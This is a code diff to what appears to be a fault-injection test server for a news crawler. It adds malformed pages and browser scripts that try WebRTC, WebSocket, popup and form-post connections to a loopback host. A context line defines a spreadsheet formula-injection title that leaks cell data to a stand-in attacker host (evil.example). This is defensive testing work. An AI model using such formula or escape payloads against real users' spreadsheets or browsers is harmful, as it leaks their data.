@@ -27,8 +27,8 @@ from functools import cache
 from http.server import BaseHTTPRequestHandler
 from typing import TYPE_CHECKING
 
+from newscrawl.replica import content, pages
 from newscrawl.replica import index as idx
-from newscrawl.replica import pages
 from newscrawl.replica.index import ORIGIN
 
 if TYPE_CHECKING:
@@ -42,6 +42,17 @@ CHUNK = 64 * 1024
 LOOPBACK_TARGET = "http://127.0.0.1:8080/"
 PRIVATE_TARGET = "http://10.0.0.1/Chine/"
 OTHER_HOST_TARGET = "http://en.people.cn/n3/2021/0104/c90000-9500001.html"
+CELL_LIMIT = 32_767  # characters a spreadsheet cell holds (Excel, LibreOffice)
+LONG_BODY_CHARS = 40_000  # one paragraph, one line: past CELL_LIMIT
+MANY_RELATED = 400  # related headlines: their JSON is past CELL_LIMIT
+# Characters that str.splitlines() (and many line readers) take for line ends, which JSON does
+# not escape: a JSON lines writer must.
+LINE_SEPARATORS = "\u2028\u2029\x85"
+# Symbols only: paragraphs with no letter and no digit, long enough to be a body.
+NO_WORDS_BODIES = (
+    ("★ ☆ ✦ ✧ → ← ↑ ↓ ◆ ◇ ● ○ ■ □ ▲ △ ▼ ▽ ♠ ♣ ♥ ♦ " * 12).strip(),
+    ("※ ✓ ✗ ⇒ ⇐ ⇔ ∞ ≈ ≠ ≤ ≥ ± ⊕ ÷ √ ∑ ∏ ∫ ∂ ∇ " * 12).strip(),
+)
 
 
 @dataclass(frozen=True)
@@ -88,7 +99,51 @@ FAULTS: dict[str, tuple[str, str]] = {
     "gzip_bomb": ("failed:too_large", f"gzip body expanding to {BOMB_BYTES >> 20} MB"),
     "huge_page": ("failed:too_large", f"{HUGE_BYTES >> 20} MB page, Content-Length given"),
     "huge_page_chunked": ("failed:too_large", f"{HUGE_BYTES >> 20} MB page, chunked, no length"),
+    # A rendered page's other ways out (the static crawl runs no script: each is a story).
+    "webrtc": (
+        "story",
+        "a script that opens WebRTC peer connections to a STUN (UDP) and a TURN (TCP) server on"
+        " the loopback, from the page and from a blank iframe",
+    ),
+    "websocket": (
+        "story",
+        "WebSockets to the loopback and to the portal from the page, a blank iframe, a worker and"
+        " a shared worker, and a WebSocketStream",
+    ),
+    "popup_window_open": (
+        "story",
+        "window.open() of the loopback and of a portal story, and a blank window the script"
+        " writes a picture and a fetch() into",
+    ),
+    "popup_form_post": ("story", "a form POSTed to the loopback with target=_blank"),
+    "popup_link_click": ("story", "a target=_blank link to the loopback, clicked by a script"),
+    # Odd input.
+    "charset_zlib": ("story", "Content-Type charset=zlib: a codec, but no text encoding"),
+    "charset_hex": ("story", "Content-Type charset=hex"),
+    "charset_rot13": ("story", "Content-Type charset=rot13"),
+    "charset_utf16": ("story", "Content-Type charset=utf-16 on UTF-8 bytes (no NUL at all)"),
+    "nul_byte": ("story", "one NUL byte in the first kilobyte of an otherwise valid page"),
+    "no_words": ("story", "a body of symbols only, no letter, no digit"),
+    "no_words_other": ("story", "another body of other symbols only"),
+    "line_separators": (
+        "story",
+        "related headlines whose hrefs carry U+2028, U+2029 and U+0085 (JSON leaves them raw)",
+    ),
+    "line_separator_header": (
+        "rejected:not_html",
+        "JPEG bytes whose Content-Type carries byte 0x85 (U+0085), quoted in the rejection",
+    ),
+    "long_body": (
+        "story",
+        f"a body of one {LONG_BODY_CHARS:,}-character line: past a spreadsheet cell",
+    ),
+    "many_related": (
+        "story",
+        f"{MANY_RELATED} related headlines: their JSON is past a spreadsheet cell",
+    ),
 }
+# The smallest replica with a plain story for every fault and the hub.
+FAULT_STORIES = 90
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")'
 REDIRECT_TARGETS = {
     "redirect_other_host": OTHER_HOST_TARGET,
@@ -122,7 +177,9 @@ class FaultPlan:
         rows = self._candidate_rows()
         needed = len(FAULTS) + 1
         if len(rows) < needed:
-            raise ValueError(f"fault mode needs {needed} plain stories; use stories >= 60")
+            raise ValueError(
+                f"fault mode needs {needed} plain stories; use stories >= {FAULT_STORIES}"
+            )
         picked = random.Random(f"{portal.options.seed}:faults").sample(rows, needed)
         self.hub_row = picked[0]
         self.rows = dict(zip(FAULTS, picked[1:], strict=True))
@@ -207,6 +264,31 @@ class FaultPlan:
             return page(301 if name == "redirect_other_host" else 302, b"", Location=target)
         if name == "gzip_bomb":
             return page(200, gzip_bomb(), Content_Encoding="gzip")
+        if name in BROWSER_ESCAPES:
+            script = BROWSER_ESCAPES[name](self.loopback, self.portal.entries[row].url)
+            script += f'<script type="text/javascript" src="{PROBE_PATH}{row}.js"></script>\n'
+            return page(200, html.replace("</body>", script + "</body>", 1).encode("utf-8"))
+        if name.startswith("charset_"):
+            codec = name.removeprefix("charset_").replace("utf16", "utf-16")
+            body = html.encode("utf-8")
+            body += b" " * (len(body) % 2)  # an even length: UTF-16 decodes it without error
+            return page(200, body, f"text/html; charset={codec}")
+        if name == "nul_byte":
+            nul = html.replace("<title>", "<title>\x00", 1).encode("utf-8")
+            return page(200, nul, "text/html; charset=utf-8")
+        if name in ("no_words", "no_words_other", "long_body", "many_related"):
+            return page(200, pages.story_page(self.odd_content(name, row)).encode("utf-8"))
+        if name == "line_separator_header":
+            return page(200, JPEG, "image/jpeg; name=photo\x85.jpg")
+        if name == "line_separators":
+            story = self.portal.content(row)
+            odd = [
+                content.RelatedHeadline(f"Lien{mark}bizarre", url, url)
+                for mark in LINE_SEPARATORS
+                for url in [f"http://en.people.cn/n3/2021/0104/c90000-{mark}9500001.html"]
+            ]
+            story = dataclasses.replace(story, related=[*story.related, *odd])
+            return page(200, pages.story_page(story).encode("utf-8"))
         body = html.encode("utf-8")
         behaviours: dict[str, Misbehaviour] = {
             "slow": lambda handler: slow(handler, body),
@@ -236,8 +318,127 @@ class FaultPlan:
     def story_html(self, row: int) -> str:
         return pages.story_page(self.portal.content(row))
 
+    def odd_content(self, name: str, row: int) -> content.StoryContent:
+        """The story with an odd body or related list (the rest of it as the portal's)."""
+        story = self.portal.content(row)
+        if name in ("no_words", "no_words_other"):
+            symbols = NO_WORDS_BODIES[name == "no_words_other"]
+            blocks = [content.Block("p", symbols), content.Block("p", symbols[::-1])]
+            return dataclasses.replace(story, pages=[blocks])
+        if name == "long_body":
+            line = " ".join(f"mot{number}" for number in range(LONG_BODY_CHARS // 4))
+            line = line[:LONG_BODY_CHARS].rstrip()
+            return dataclasses.replace(story, pages=[[content.Block("p", line)]])
+        section, day = story.entry.section, story.entry.published
+        related = [
+            content.RelatedHeadline(f"Titre numéro {number} d'une longue liste", url, url)
+            for number in range(MANY_RELATED)
+            for url in [
+                f"{ORIGIN}/{section}/n3/{day:%Y/%m%d}/c31357-{8_000_000 + row * 1000 + number}.html"
+            ]
+        ]
+        return dataclasses.replace(story, related=related)
+
 
 PROBE_PATH = "/fault/probe/"
+
+
+def webrtc_script(loopback: str, story_url: str) -> str:
+    """Peer connections that gather candidates against servers on the loopback: STUN over UDP,
+    TURN over TCP; from the page, and from a blank iframe (its own RTCPeerConnection)."""
+    host = loopback.split("//", 1)[1].rstrip("/")
+    servers = json.dumps(
+        [
+            {"urls": f"stun:{host}"},
+            {"urls": f"turn:{host}?transport=tcp", "username": "u", "credential": "p"},
+        ]
+    )
+    return f"""<script type="text/javascript">
+  function peer(scope) {{
+    try {{
+      var connection = new scope.RTCPeerConnection({{iceServers: {servers}}});
+      connection.createDataChannel("canal");
+      connection.createOffer().then(function (offer) {{
+        return connection.setLocalDescription(offer);
+      }}).catch(function () {{}});
+    }} catch (error) {{}}
+  }}
+  peer(window);
+  var blank = document.createElement("iframe");
+  document.body.appendChild(blank);
+  peer(blank.contentWindow);
+</script>
+"""
+
+
+def websocket_script(loopback: str, story_url: str) -> str:
+    """WebSockets every way a page can open one."""
+    ws = "ws://" + loopback.split("//", 1)[1]
+    portal = "ws://" + story_url.split("//", 1)[1].split("/", 1)[0] + "/direct"
+    worker = json.dumps(f"new WebSocket({json.dumps(ws + 'worker')});")
+    shared = json.dumps(f"new WebSocket({json.dumps(ws + 'shared-worker')});")
+    return f"""<script type="text/javascript">
+  function attempt(open) {{ try {{ open(); }} catch (error) {{}} }}
+  attempt(function () {{ new WebSocket({json.dumps(ws + "page")}); }});
+  attempt(function () {{ new WebSocket({json.dumps(portal)}); }});
+  attempt(function () {{
+    var blank = document.createElement("iframe");
+    document.body.appendChild(blank);
+    new blank.contentWindow.WebSocket({json.dumps(ws + "iframe")});
+  }});
+  attempt(function () {{ new WebSocketStream({json.dumps(ws + "stream")}); }});
+  attempt(function () {{
+    new Worker(URL.createObjectURL(new Blob([{worker}], {{type: "text/javascript"}})));
+  }});
+  attempt(function () {{
+    new SharedWorker(URL.createObjectURL(new Blob([{shared}], {{type: "text/javascript"}})));
+  }});
+</script>
+"""
+
+
+def window_open_script(loopback: str, story_url: str) -> str:
+    other = json.dumps(story_url.replace(".html", "-popup.html"))
+    return f"""<script type="text/javascript">
+  try {{
+    window.open({json.dumps(loopback + "popup-open")});
+    window.open({other});
+    var blank = window.open("about:blank");
+    if (blank) {{
+      blank.document.write('<img src="{loopback}popup-picture">');
+      blank.fetch({json.dumps(loopback + "popup-fetch")}).catch(function () {{}});
+    }}
+  }} catch (error) {{}}
+</script>
+"""
+
+
+def form_post_script(loopback: str, story_url: str) -> str:
+    return f"""<form id="envoi" method="post" target="_blank" action="{loopback}popup-form">
+  <input type="hidden" name="secret" value="1" />
+</form>
+<script type="text/javascript">
+  try {{ document.getElementById("envoi").submit(); }} catch (error) {{}}
+</script>
+"""
+
+
+def link_click_script(loopback: str, story_url: str) -> str:
+    return f"""<a id="ailleurs" href="{loopback}popup-link" target="_blank">ailleurs</a>
+<script type="text/javascript">
+  try {{ document.getElementById("ailleurs").click(); }} catch (error) {{}}
+</script>
+"""
+
+
+# fault -> what its page adds before </body> (then the probe, proof that it ran to its end)
+BROWSER_ESCAPES: dict[str, Callable[[str, str], str]] = {
+    "webrtc": webrtc_script,
+    "websocket": websocket_script,
+    "popup_window_open": window_open_script,
+    "popup_form_post": form_post_script,
+    "popup_link_click": link_click_script,
+}
 
 
 def hostile_script(loopback: str, row: int) -> str:
